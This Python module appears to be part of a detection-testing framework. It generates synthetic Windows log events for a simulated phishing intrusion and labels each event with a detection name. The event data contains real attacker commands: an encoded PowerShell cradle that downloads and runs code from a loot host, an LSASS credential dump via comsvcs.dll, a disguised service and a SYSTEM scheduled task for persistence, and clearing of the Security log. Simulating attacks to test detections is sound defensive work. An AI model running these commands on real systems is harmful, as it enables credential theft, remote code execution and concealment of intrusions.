"""Attack one: a mailed document starts PowerShell, LSASS is dumped, a service carries the intruder on, logs are cleared."""

from __future__ import annotations

import base64
import random
from functools import partial

from demo import windows
from demo.chains.chain import LOOT, Chain
from demo.city import City, Host
from demo.plan import Build, Planned, Route

SYSTEM32 = "C:\\Windows\\System32\\"
WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
POWERSHELL = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
RUNDLL32, CMD, SERVICES = SYSTEM32 + "rundll32.exe", SYSTEM32 + "cmd.exe", SYSTEM32 + "services.exe"
IMPLANT = "C:\\Users\\Public\\wdu.exe"
CRADLE = f"IEX (New-Object Net.WebClient).DownloadString('http://{LOOT}/a')"
LAUNCH = "powershell.exe -NoP -W Hidden -Enc " + base64.b64encode(CRADLE.encode("utf-16-le")).decode()


def phishing(city: City, rng: random.Random) -> list[Planned]:
    """Document → PowerShell → LSASS → file server → cleared logs; about 50 seconds."""
    chain = Chain("phishing")
    victim = rng.choice(city.of("workstation"))
    server = rng.choice(city.of("file"))
    pid = rng.randrange(1_000, 9_000) * 4
    _open_document(chain, victim, pid)
    _look_around(chain, victim, pid)
    _dump_lsass(chain, victim, pid)
    _move_on(chain, victim, server)
    _clear_logs(chain, server)
    return chain.records


def _open_document(chain: Chain, victim: Host, pid: int) -> None:
    chain.step("document starts PowerShell", 0)
    path = f"C:\\Users\\{victim.user}\\Downloads\\通知.docm"
    chain.send(Route.JSON, partial(windows.file_created, host=victim, user=victim.user, image=WORD, path=path, pid=pid))
    run = _process(victim, POWERSHELL, LAUNCH, (WORD, f'"{WORD}" /n {path}'), pid + 8)
    chain.send(Route.JSON, run, "office_spawns_shell", "powershell_encoded_command")
    chain.send(Route.JSON, partial(windows.script_block, host=victim, text=CRADLE), "powershell_download_cradle")
    call = partial(windows.connection, host=victim, user=victim.user, image=POWERSHELL, pid=pid + 8, target=(LOOT, 80), port=50_112)
    chain.send(Route.JSON, call)


def _look_around(chain: Chain, victim: Host, pid: int) -> None:
    chain.step("looks around", 6)
    powershell = (POWERSHELL, LAUNCH)
    chain.send(Route.JSON, _process(victim, SYSTEM32 + "whoami.exe", "whoami /all", powershell, pid + 12), gap=1.5)
    asked = _process(victim, SYSTEM32 + "net.exe", 'net group "Domain Admins" /domain', powershell, pid + 16)
    chain.send(Route.JSON, asked, "domain_admin_discovery", gap=1.5)


def _dump_lsass(chain: Chain, victim: Host, pid: int) -> None:
    chain.step("dumps LSASS", 5)
    command = f"rundll32.exe {SYSTEM32}comsvcs.dll, MiniDump 712 C:\\Users\\Public\\d.bin full"
    chain.send(Route.JSON, _process(victim, RUNDLL32, command, (POWERSHELL, LAUNCH), pid + 20), "lsass_dump_comsvcs")
    modules = ("ntdll.dll+9d1f4", "KERNELBASE.dll+2c13e", "dbgcore.dll+6aa1", "comsvcs.dll+24f4b")
    opened = partial(
        windows.access,
        host=victim,
        source=RUNDLL32,
        target=SYSTEM32 + "lsass.exe",
        granted="0x1fffff",
        pid=pid + 20,
        trace="|".join(SYSTEM32 + module for module in modules),
    )
    chain.send(Route.JSON, opened, "lsass_memory_access")


def _move_on(chain: Chain, victim: Host, server: Host) -> None:
    chain.step("moves to the file server", 8)
    chain.send(Route.JSON, partial(windows.logon, host=server, user="svc.backup", logon_type=3, source=victim.ip, port=50_233))
    installed = partial(windows.service_installed, host=server, name="WinDefUpdate", path=f"{IMPLANT} -k")
    chain.send(Route.JSON, installed, "service_from_user_path")
    shell = _process(server, CMD, f"cmd.exe /c {IMPLANT}", (SERVICES, SERVICES), 4_120)
    chain.send(Route.JSON, shell, "shell_from_services")
    command = f"schtasks.exe /create /tn Updater /sc minute /mo 30 /tr {IMPLANT} /ru SYSTEM"
    chain.send(Route.JSON, _process(server, SYSTEM32 + "schtasks.exe", command, (CMD, "cmd.exe"), 4_168), "task_from_user_path")


def _clear_logs(chain: Chain, server: Host) -> None:
    chain.step("clears the logs", 10)
    clear = _process(server, SYSTEM32 + "wevtutil.exe", "wevtutil.exe cl Security", (CMD, "cmd.exe"), 4_204)
    chain.send(Route.JSON, clear, "wevtutil_clear_log")
    chain.send(Route.JSON, partial(windows.log_cleared, host=server, user="SYSTEM"), "security_log_cleared")


def _process(host: Host, image: str, command: str, parent: tuple[str, str], pid: int) -> Build:
    """Sysmon 1; a server's processes run as SYSTEM, a workstation's as its user. ``parent``: image and command line."""
    user = host.user or "SYSTEM"
    return partial(
        windows.process, host=host, user=user, image=image, command=command, parent=parent[0], parent_command=parent[1], pid=pid
    )
